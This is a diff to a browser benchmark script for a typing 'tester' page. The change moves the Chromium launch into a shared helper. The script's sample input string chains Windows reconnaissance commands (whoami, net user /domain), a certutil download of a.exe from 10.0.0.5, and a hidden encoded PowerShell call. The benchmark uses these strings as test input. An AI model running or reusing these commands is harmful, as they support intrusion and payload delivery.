@@ -5,7 +5,7 @@
  *
  *   node scripts/static-server.mjs out 4173 & npx tsx scripts/bench-tester-typing.ts [rounds]
  */
-import { chromium } from "@playwright/test"
+import { launchChromium } from "./bench/chromium.ts"
 
 const BASE = process.env.BASE_URL ?? "http://127.0.0.1:4173"
 const ROUNDS = Number(process.argv[2] ?? 3)
@@ -16,16 +16,7 @@ const START =
   "cmd.exe /c whoami /all && net user /domain && certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe && powershell -nop -w hidden -enc SQBFAFgA "
 const TYPED = '"cmd.exe /c whoami /all > c:\\x"'.padEnd(30, " ").slice(0, 30)
 
-const browser = await chromium.launch({
-  executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
-  args: [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--no-first-run",
-  ],
-})
+const browser = await launchChromium()
 const all: number[] = []
 const keys: number[] = []
 for (let round = 0; round < ROUNDS; round++) {
